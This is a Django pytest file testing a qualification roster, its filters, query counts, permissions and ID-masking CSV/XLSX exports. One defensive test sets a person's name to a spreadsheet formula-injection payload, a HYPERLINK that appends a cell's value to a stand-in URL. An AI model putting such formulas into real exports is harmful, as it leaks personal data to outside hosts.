"""The roster selectors (lms.certs.roster), the page and its exports."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.db import transaction
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from lms.certs.constants import Status
from lms.certs.models import QualificationRecord
from lms.certs.roster import (
    Reason,
    RosterFilters,
    roster_coverage,
    roster_iter,
    roster_query,
    roster_rows,
    roster_scope_for_station,
)
from lms.people.constants import PersonStatus
from lms.people.models import Person
from lms.points.models import PointAssignment
from tests.factories import (
    OrganisationFactory,
    PersonFactory,
    PostFactory,
    QualificationRecordFactory,
    QualificationTypeFactory,
    StationFactory,
    TeamFactory,
)

DAY = date(2026, 6, 15)


def make_post(**kwargs):
    """PostFactory, saved again: a ParentalManyToManyField's set() stays in memory
    until the (clusterable) post is saved, and the factory skips that save."""
    post = PostFactory(**kwargs)
    post.save()
    return post


# --- brute force against random data ----------------------------------------------


def brute_reason(records, day):
    """The spec, written out plainly: held, else the first reason that applies."""
    if any(
        r.status == Status.ACTIVE
        and r.valid_from <= day
        and (r.valid_until is None or day <= r.valid_until)
        for r in records
    ):
        return None
    statuses = [r.status for r in records]
    if Status.SUSPENDED in statuses:
        return Reason.SUSPENDED
    if any(r.status == Status.ACTIVE and r.valid_from > day for r in records):
        return Reason.NOT_YET_VALID
    if Status.REVOKED in statuses:
        return Reason.REVOKED
    if any(
        (r.status == Status.ACTIVE and r.valid_until and r.valid_until < day)
        or r.status in (Status.EXPIRED, Status.SUPERSEDED)
        for r in records
    ):
        return Reason.EXPIRED
    return Reason.MISSING


def brute_standing(person, post_types, records, day):
    reasons = []
    if person.status != PersonStatus.ACTIVE:
        reasons.append((Reason.INACTIVE, None))
    for type_id in sorted(post_types):
        mine = [
            r
            for r in records
            if r.person_id == person.pk and r.qualification_type_id == type_id
        ]
        reason = brute_reason(mine, day)
        if reason is not None:
            reasons.append((reason, type_id))
    return reasons


record_spec = st.tuples(
    st.integers(0, 3),  # person
    st.integers(0, 1),  # type
    st.sampled_from([Status.ACTIVE] * 4 + list(Status)),
    # valid_from and valid_until in days from DAY: close to the day, so that it
    # often falls on a record's first or last day (the boundaries SQL must get right)
    st.integers(-2, 1),
    st.one_of(st.none(), st.integers(-1, 2)),
)


@pytest.mark.django_db
@settings(
    max_examples=30,
    database=None,  # no .hypothesis folder in the checkout; the seed is printed
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    statuses=st.lists(
        st.sampled_from([PersonStatus.ACTIVE] * 3 + list(PersonStatus)),
        min_size=2,
        max_size=4,
    ),
    post_types=st.lists(st.sets(st.integers(0, 1), max_size=2), min_size=1, max_size=3),
    specs=st.lists(record_spec, min_size=4, max_size=25),
    day_shift=st.integers(-1, 1),
)
# The boundaries, always tried: a record's last day, and its first day.
@example(
    statuses=[PersonStatus.ACTIVE],
    post_types=[{0}],
    specs=[(0, 0, Status.ACTIVE, -1, 0)],
    day_shift=0,
)
@example(
    statuses=[PersonStatus.ACTIVE, PersonStatus.LEFT],
    post_types=[{0, 1}, set()],
    specs=[(0, 0, Status.ACTIVE, 0, None), (0, 1, Status.ACTIVE, -2, 0)],
    day_shift=0,
)
# The order of reasons: several records of one type, none held.
@example(
    statuses=[PersonStatus.ACTIVE, PersonStatus.ACTIVE],
    post_types=[{0}],
    specs=[
        (0, 0, Status.REVOKED, -2, -1),
        (0, 0, Status.ACTIVE, 1, None),
        (1, 0, Status.EXPIRED, -2, -1),
        (1, 0, Status.SUSPENDED, -1, None),
    ],
    day_shift=0,
)
def test_roster_matches_brute_force(statuses, post_types, specs, day_shift):
    day = DAY + timedelta(days=day_shift)
    with transaction.atomic():
        station = StationFactory()
        company = OrganisationFactory(supervising_station=station)
        types = [QualificationTypeFactory() for _ in range(2)]
        posts = [
            make_post(required_types=[types[i] for i in sorted(chosen)])
            for chosen in post_types
        ]
        people = [
            Person.objects.create(name=f"p{i}", organisation=company, status=status)
            for i, status in enumerate(statuses)
        ]
        current = set()
        records = []
        for n, (who, kind, status, start, length) in enumerate(specs):
            if who >= len(people):
                continue
            key = (who, kind)
            if status in (Status.PENDING, Status.ACTIVE, Status.SUSPENDED):
                if key in current:
                    continue  # the database allows one current record per type
                current.add(key)
            valid_from = DAY + timedelta(days=start)
            valid_until = None if length is None else DAY + timedelta(days=length)
            records.append(
                QualificationRecordFactory.build(
                    serial=f"H-{n}",
                    code=f"HC-{n}",
                    person=people[who],
                    qualification_type=types[kind],
                    status=status,
                    issued_on=valid_from,
                    valid_from=valid_from,
                    valid_until=valid_until,
                )
            )
        QualificationRecord.objects.bulk_create(records)
        type_ids = {i: t.pk for i, t in enumerate(types)}

        query = roster_query(roster_scope_for_station(station), RosterFilters(day=day))
        rows = roster_rows(query, query.people)
        assert [row.person.pk for row in rows] == sorted(p.pk for p in people)
        assert [
            (r.person.pk, [(s.deployable, s.reasons) for s in r.posts])
            for r in roster_iter(query, chunk_size=2)
        ] == [(r.person.pk, [(s.deployable, s.reasons) for s in r.posts]) for r in rows]

        expected_anywhere = set()
        per_post = {post.pk: 0 for post in posts}
        for row in rows:
            person = row.person
            for standing, post, chosen in zip(
                row.posts, posts, post_types, strict=True
            ):
                assert standing.post.pk == post.pk
                want = brute_standing(
                    person, {type_ids[i] for i in chosen}, records, day
                )
                got = [(m.reason, m.type_id) for m in standing.reasons]
                assert got == want, (person.status, chosen)
                assert standing.deployable is (not want)
                if not want:
                    expected_anywhere.add(person.pk)
                    per_post[post.pk] += 1
            held = {(h.type_id, h.serial) for h in row.held}
            assert held == {
                (r.qualification_type_id, r.serial)
                for r in records
                if r.person_id == person.pk and r.held_on(day)
            }

        # The SQL filters agree with the Python verdicts.
        yes = roster_query(
            roster_scope_for_station(station), RosterFilters(day=day, deployable=True)
        )
        no = roster_query(
            roster_scope_for_station(station), RosterFilters(day=day, deployable=False)
        )
        assert {p.pk for p in yes.people} == expected_anywhere
        assert {p.pk for p in no.people} == {p.pk for p in people} - expected_anywhere
        for post in posts:
            only = roster_query(
                roster_scope_for_station(station),
                RosterFilters(day=day, post=post.pk, deployable=True),
            )
            assert only.people.count() == per_post[post.pk]
        (coverage,) = roster_coverage(query)
        assert coverage.people == len(people)
        assert coverage.deployable == [per_post[post.pk] for post in posts]
        transaction.set_rollback(True)


# --- fixed examples ----------------------------------------------------------------


@pytest.fixture
def roster_world(world):
    fire = QualificationTypeFactory(code="FIRE", name="消防", validity_months=None)
    duty = QualificationTypeFactory(code="DUTY", name="上岗")
    gate = make_post(code="GATE", name="门卫", required_types=[duty])
    patrol = make_post(code="PATROL", name="巡逻", required_types=[duty, fire])
    world.fire, world.duty, world.gate, world.patrol = fire, duty, gate, patrol
    return world


def _filters(**kwargs):
    return RosterFilters(day=kwargs.pop("day", date.today()), **kwargs)


@pytest.mark.django_db
def test_reasons_per_type(roster_world):
    w = roster_world
    QualificationRecordFactory(person=w.trainee, qualification_type=w.duty)
    QualificationRecordFactory(
        person=w.colleague, qualification_type=w.duty, status=Status.SUSPENDED
    )
    QualificationRecordFactory(
        person=w.point_guard, qualification_type=w.duty, days_ago=400
    )
    query = roster_query(roster_scope_for_station(w.station), _filters())
    rows = {row.person.pk: row for row in roster_rows(query, query.people)}
    gate, patrol = rows[w.trainee.pk].posts
    assert gate.deployable
    assert not patrol.deployable
    assert [(m.reason, m.type_id) for m in patrol.reasons] == [
        (Reason.MISSING, w.fire.pk)
    ]
    assert rows[w.colleague.pk].posts[0].reasons[0].reason == Reason.SUSPENDED
    assert rows[w.point_guard.pk].posts[0].reasons[0].reason == Reason.EXPIRED
    w.trainee.status = PersonStatus.LEFT
    w.trainee.save()
    query = roster_query(roster_scope_for_station(w.station), _filters())
    (row,) = roster_rows(query, query.people.filter(pk=w.trainee.pk))
    assert [m.reason for m in row.posts[0].reasons] == [Reason.INACTIVE]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("valid_from", "valid_until", "held"),
    [(0, 0, True), (-3, 0, True), (0, None, True), (1, 5, False), (-5, -1, False)],
)
def test_first_and_last_day_count(roster_world, valid_from, valid_until, held):
    w = roster_world
    today = date.today()
    QualificationRecordFactory(
        person=w.trainee,
        qualification_type=w.duty,
        valid_from=today + timedelta(days=valid_from),
        valid_until=None if valid_until is None else today + timedelta(valid_until),
    )
    scope = roster_scope_for_station(w.station)
    query = roster_query(scope, _filters(post=w.gate.pk, deployable=True))
    assert (w.trainee in query.people) is held
    (row,) = roster_rows(query, [w.trainee])
    assert row.posts[0].deployable is held
    coverage = {c.organisation_id: c for c in roster_coverage(query)}
    # The colleague in the same company never holds it: one or none deployable.
    assert coverage[w.company.pk].deployable == [int(held)]


@pytest.mark.django_db
def test_filters(roster_world):
    w = roster_world
    team = TeamFactory(organisation=w.company)
    w.colleague.team = team
    w.colleague.save()
    QualificationRecordFactory(
        person=w.trainee, qualification_type=w.duty, days_ago=360
    )
    QualificationRecordFactory(person=w.point_guard, qualification_type=w.duty)
    scope = roster_scope_for_station(w.station)

    def names(**kwargs):
        return {p.pk for p in roster_query(scope, _filters(**kwargs)).people}

    # The point filter is who is assigned there that day (lms/points), wherever
    # they are employed; the point's own employee is not assigned.
    PointAssignment.objects.create(
        person=w.colleague, point=w.point, post=w.gate, valid_from=date.today()
    )
    PointAssignment.objects.create(
        person=w.trainee,
        point=w.point,
        post=w.gate,
        valid_from=date.today() - timedelta(days=30),
        valid_until=date.today() - timedelta(days=1),
    )
    assert names(point=w.point.pk) == {w.colleague.pk}
    assert names(point=w.point.pk, day=date.today() - timedelta(days=2)) == {
        w.trainee.pk
    }
    assert names(point=w.company.pk) == set()  # not a point
    assert names(team=team.pk) == {w.colleague.pk}
    assert names(organisation=w.company.pk) >= {w.trainee.pk, w.colleague.pk}
    assert w.point_guard.pk not in names(organisation=w.company.pk)
    assert names(qualification_type=w.duty.pk) == {w.trainee.pk, w.point_guard.pk}
    assert names(expiring_within=30) == {w.trainee.pk}
    assert names(expiring_within=30, qualification_type=w.fire.pk) == set()
    assert names(post=w.gate.pk, deployable=True) == {w.trainee.pk, w.point_guard.pk}
    assert names(post=w.patrol.pk, deployable=True) == set()
    query = roster_query(scope, _filters(post=w.gate.pk))
    assert [post.code for post in query.posts] == ["GATE"]


@pytest.mark.django_db
def test_station_scope_excludes_other_stations(roster_world):
    w = roster_world
    pks = {
        p.pk
        for p in roster_query(roster_scope_for_station(w.station), _filters()).people
    }
    assert w.outsider.pk not in pks
    assert {w.trainee.pk, w.point_guard.pk, w.station_staff.pk} <= pks


# --- constant queries --------------------------------------------------------------


def _populate(station, n):
    company = OrganisationFactory(supervising_station=station)
    duty = QualificationTypeFactory(code="DUTY")  # get_or_create: once
    fire = QualificationTypeFactory(code="FIRE")
    make_post(code="GATE", required_types=[duty])
    make_post(code="PATROL", required_types=[duty, fire])
    for i in range(n):
        person = PersonFactory(organisation=company)
        QualificationRecordFactory(person=person, qualification_type=duty)
        if i % 2:
            QualificationRecordFactory(person=person, qualification_type=fire)


def _count_roster(django_assert_num_queries, station, expected):
    with django_assert_num_queries(expected):
        query = roster_query(roster_scope_for_station(station), _filters())
        rows = roster_rows(query, query.people[:50])
        assert all(row.person.organisation.name for row in rows)
        roster_coverage(query)
        list(roster_iter(query))


@pytest.mark.django_db
@pytest.mark.parametrize("n", [3, 30])
def test_roster_queries_do_not_grow(n, django_assert_num_queries):
    station = StationFactory()
    _populate(station, n)
    # posts + their types, page of people, their records, coverage; the export:
    # the people's cursor and their records (one chunk)
    _count_roster(django_assert_num_queries, station, 7)


@pytest.mark.django_db
def test_an_export_reads_records_a_chunk_of_people_at_a_time(
    django_assert_num_queries,
):
    """Records are matched to people by id, a chunk at a time: a person renamed while
    the export runs (here, between reading the people and their records) keeps their
    own records, and so does everyone after them."""
    station = StationFactory()
    _populate(station, 5)
    query = roster_query(roster_scope_for_station(station), _filters())
    expected = [
        (row.person.pk, [h.serial for h in row.held])
        for row in roster_rows(query, query.people)
    ]
    first = query.people.first()
    rows = roster_iter(query, chunk_size=2)
    # people; records of 2 + 2 + 1 people; the rename
    with django_assert_num_queries(1 + 3 + 1):
        got = [next(rows)]
        Person.objects.filter(pk=first.pk).update(name="龢" * 5)  # now sorts last
        got += list(rows)
    assert [(row.person.pk, [h.serial for h in row.held]) for row in got] == expected


@pytest.mark.django_db
def test_page_queries_do_not_grow(world, client_for, django_assert_max_num_queries):
    station = world.station
    client = client_for(world.station_staff.user)
    counts = []
    for n in (3, 27):  # 3 people, then 30
        _populate(station, n)
        client.get(reverse("certs-roster"))  # warm the per-process caches
        with django_assert_max_num_queries(25) as captured:
            response = client.get(reverse("certs-roster"))
        assert response.status_code == 200
        counts.append(len(captured))
    assert counts[0] == counts[1]


# --- the page and exports ------------------------------------------------------------


@pytest.mark.django_db
def test_page_is_scoped_and_explains(roster_world, client_for):
    w = roster_world
    QualificationRecordFactory(person=w.trainee, qualification_type=w.duty)
    response = client_for(w.station_staff.user).get(reverse("certs-roster"))
    assert response.status_code == 200
    html = response.content.decode()
    assert w.trainee.name in html
    assert w.outsider.name not in html
    assert "<svg" in html
    assert w.trainee.id_number not in html
    assert w.trainee.id_number_masked in html
    # The reason under a non-deployable person: patrol needs fire safety.
    assert "消防" in html


@pytest.mark.django_db
def test_page_needs_permission(world, client_for):
    assert (
        client_for(world.trainee.user).get(reverse("certs-roster")).status_code == 403
    )
    assert (
        client_for(world.station_staff.user).get(reverse("certs-roster")).status_code
        == 200
    )


def _csv(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.django_db
def test_csv_export_masks_and_scopes(roster_world, client_for):
    w = roster_world
    QualificationRecordFactory(person=w.trainee, qualification_type=w.duty)
    client = client_for(w.station_staff.user)
    response = client.get(reverse("certs-roster-export", args=["csv"]))
    assert response.status_code == 200
    assert response.streaming
    rows = _csv(response)
    header, body = rows[0], rows[1:]
    assert header[-2:] == ["门卫", "巡逻"]
    names = {row[0] for row in body}
    assert w.trainee.name in names
    assert w.outsider.name not in names
    trainee = next(row for row in body if row[0] == w.trainee.name)
    assert trainee[1] == w.trainee.id_number_masked
    assert w.trainee.id_number not in b"".join(
        client.get(reverse("certs-roster-export", args=["csv"])).streaming_content
    ).decode("utf-8-sig")
    assert "消防" in trainee[-1]


@pytest.mark.django_db
def test_xlsx_export_masks_and_scopes(roster_world, client_for):
    w = roster_world
    response = client_for(w.station_staff.user).get(
        reverse("certs-roster-export", args=["xlsx"])
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    values = [list(row) for row in book.active.iter_rows(values_only=True)]
    names = {row[0] for row in values[1:]}
    assert w.trainee.name in names and w.outsider.name not in names
    flat = " ".join(str(c) for row in values for c in row if c)
    assert w.trainee.id_number not in flat
    assert w.trainee.id_number_masked in flat


@pytest.mark.django_db
def test_export_unknown_format_404(world, client_for):
    client = client_for(world.station_staff.user)
    assert client.get("/certs/roster/export.pdf").status_code == 404


@pytest.mark.django_db
def test_exports_never_write_a_formula(roster_world, client_for):
    """A name typed in the admin as =HYPERLINK(…) stays text in both exports."""
    w = roster_world
    w.trainee.name = '=HYPERLINK("http://x/?"&B2,"张三")'
    w.trainee.save()
    client = client_for(w.station_staff.user)
    rows = _csv(client.get(reverse("certs-roster-export", args=["csv"])))
    assert "'" + w.trainee.name in {row[0] for row in rows}
    response = client.get(reverse("certs-roster-export", args=["xlsx"]))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    names = {row[0] for row in book.active.iter_rows(values_only=True)}
    assert "'" + w.trainee.name in names


@pytest.mark.django_db
def test_a_bad_filter_is_shown_and_the_valid_ones_still_apply(roster_world, client_for):
    """?date=bad&organisation=…: the date's error is shown, and the organisation
    still filters (not the whole roster)."""
    w = roster_world
    response = client_for(w.station_staff.user).get(
        reverse("certs-roster"),
        {"date": "not-a-date", "organisation": w.company.pk},
    )
    assert response.status_code == 200
    assert "date" in response.context["form"].errors
    people = {row.person.pk for row in response.context["rows"]}
    assert w.trainee.pk in people and w.point_guard.pk not in people
